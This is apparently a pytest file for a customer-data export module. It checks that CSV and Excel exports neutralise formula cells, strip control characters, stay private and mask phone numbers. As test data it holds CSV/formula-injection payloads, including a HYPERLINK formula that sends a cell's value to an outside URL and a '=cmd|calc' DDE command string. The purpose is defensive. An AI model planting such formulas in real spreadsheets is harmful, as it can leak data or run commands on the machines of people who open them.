"""Safe exports (issue 15, Build 2; issue 9, Build 9 export parts): no formula cells, no XML-illegal characters,
private files (0600 whatever the umask), masked rejects, Chinese headers, one-sheet limit."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from winback.common import export as safe
from winback.engine.duckdb_engine import DuckDBEngine
from winback.errors import InputError
from winback.ingest.rejects import export_rejects, list_rejects
from winback.lifecycle.export import export_table
from winback.outreach import tasks_xlsx

HOSTILE = ['=HYPERLINK("http://x/?"&C2,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "张三"]


def _members(names: list[str]) -> pa.Table:
    n = len(names)
    return pa.table(
        {
            "member_id": [f"m{i}" for i in range(n)],
            "name": names,
            "phone": ["138****5678"] * n,
            "monetary": [1234.5678] * n,
            "p_alive": [0.123456] * n,
            "last_purchase": [dt.date(2026, 11, 1)] * n,
        }
    )


@pytest.fixture
def umask() -> Iterator[None]:
    old = os.umask(0o002)  # a permissive umask: the files must still be private
    yield
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_csv_formula_cells_get_a_quote(tmp_path: Path) -> None:
    path = tmp_path / "m.csv"
    export_table(_members(HOSTILE), path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        names = [r["name"] for r in csv.DictReader(fh)]
    assert names[:-1] == ["'" + h for h in HOSTILE[:-1]]
    assert names[-1] == "张三"


def test_xlsx_formula_cells_are_strings(tmp_path: Path) -> None:
    path = tmp_path / "m.xlsx"
    export_table(_members(HOSTILE), path)
    ws = load_workbook(path).active
    cells = [ws.cell(row=i + 2, column=2) for i in range(len(HOSTILE))]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells][:4] == HOSTILE[:4]


def test_control_character_in_a_name_no_longer_crashes(tmp_path: Path) -> None:
    path = tmp_path / "m.xlsx"
    export_table(_members(["王\x01五\x1f", "ok\ufffe"]), path)
    ws = load_workbook(path).active
    assert [ws.cell(row=2, column=2).value, ws.cell(row=3, column=2).value] == ["王五", "ok"]


@pytest.mark.parametrize("ext", ["csv", "xlsx", "parquet"])
def test_exports_are_private(tmp_path: Path, umask: None, ext: str) -> None:
    path = tmp_path / f"m.{ext}"
    path.write_text("old")  # replaced whole
    os.chmod(path, 0o644)
    export_table(_members(["a"]), path)
    assert _mode(path) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary file left


def test_failed_write_leaves_nothing(tmp_path: Path) -> None:
    path = tmp_path / "m.csv"
    with pytest.raises(RuntimeError), safe.private_file(path) as fh:
        fh.write(b"half")
        raise RuntimeError("killed")
    assert list(tmp_path.iterdir()) == []


def test_zh_xlsx_headers_rounding_freeze_filter(tmp_path: Path) -> None:
    path = tmp_path / "m.xlsx"
    export_table(_members(["张三"]), path, lang="zh")
    wb = load_workbook(path)
    ws = wb.active
    assert [c.value for c in ws[1]] == ["会员编号", "姓名", "手机", "累计消费(元)", "活跃概率", "最近购买"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref.startswith("A1:F")
    assert ws["D2"].value == 1234.57 and ws["D2"].number_format == "#,##0.00"
    assert ws["E2"].value == 0.123


def test_too_many_rows_for_one_sheet(tmp_path: Path) -> None:
    t = pa.table({"member_id": pa.array(range(safe.MAX_XLSX_ROWS + 1))})
    with pytest.raises(InputError) as err:
        export_table(t, tmp_path / "m.xlsx", lang="zh")
    assert ".csv" in err.value.hint and ".parquet" in err.value.hint
    assert not list(tmp_path.iterdir())


def test_long_exports_report_progress(tmp_path: Path) -> None:
    seen: list[str] = []
    n = safe.PROGRESS_EVERY * 2 + 1
    safe.write_xlsx(pa.table({"x": pa.array(range(n))}), tmp_path / "x.xlsx", progress=seen.append)
    assert len(seen) == 2 and "100,000" in seen[-1]


def test_xlsx_export_feeds_a_progress_bar(tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    n = safe.PROGRESS_EVERY + 7
    export_table(_members(["张三"] * n), tmp_path / "m.xlsx", lang="zh", rows_done=lambda d, t: seen.append((d, t)))
    assert seen == [(safe.PROGRESS_EVERY, n), (n, n)]  # the bar moves while rows are written and ends full


@given(st.lists(st.text(max_size=8) | st.none(), max_size=20))
def test_neutralised_csv_cells_never_start_a_formula(values: list[str | None]) -> None:
    col = safe.neutralise_column(pa.array(values, type=pa.string())).to_pylist()
    assert col == [None if v is None else safe.csv_cell(v) for v in values]
    assert not any(v and v.startswith(safe.FORMULA_START) for v in col)


def test_tasks_sheet_control_character_and_private(tmp_path: Path, umask: None) -> None:
    path = tmp_path / "t.xlsx"
    cards = [{"task_id": "C1:M1", "member": "李\x02四", "script": "=1+1"}]
    tasks_xlsx.write_workbook(path, [("店\x03", "导购", cards)], "zh", dt.datetime(2026, 11, 23))
    assert _mode(path) == 0o600
    ws = load_workbook(path).worksheets[1]
    assert ws.cell(row=2, column=6).value == "李四"
    assert ws.cell(row=2, column=14).data_type == "s"


@pytest.fixture
def rejects_db(db: DuckDBEngine) -> DuckDBEngine:
    db.execute(
        "INSERT INTO imports (import_id, kind, file, started_at, status) "
        "VALUES (1, 'members', '/x/members.csv', ?, 'committed')",
        [dt.datetime(2026, 11, 1)],
    )
    db.execute(
        "INSERT INTO rejects VALUES (1, 2, 'bad date', ?), (1, 3, '=cmd|calc', ?)",
        [
            json.dumps({"id": "M1", "phone": "+86 138-1234-5678", "order": "202611011234567890"}),
            json.dumps({"id": "M2", "phone": "13912345678,13712345678"}),
        ],
    )
    return db


@pytest.mark.parametrize("ext", ["csv", "jsonl", "parquet"])
def test_rejects_export_masked_private(rejects_db: DuckDBEngine, tmp_path: Path, umask: None, ext: str) -> None:
    path = tmp_path / f"r.{ext}"
    assert export_rejects(rejects_db, path) == 2
    assert _mode(path) == 0o600
    if ext == "parquet":
        import pyarrow.parquet as pq

        text = str(pq.read_table(path).to_pylist())
    else:
        text = path.read_text(encoding="utf-8-sig")
    assert "1234-5678" not in text and "13912345678" not in text and "13712345678" not in text
    assert "138****5678" in text and "139****5678" in text and "137****5678" in text
    assert "202611011234567890" in text  # long digit runs (order ids) are not phones
    if ext == "csv":
        assert "'=cmd|calc" in text


def test_rejects_listing_masked_unless_show_phones(rejects_db: DuckDBEngine) -> None:
    masked = str(list_rejects(rejects_db).rows)
    assert "13912345678" not in masked and "139****5678" in masked
    assert "13912345678" in str(list_rejects(rejects_db, show_phones=True).rows)
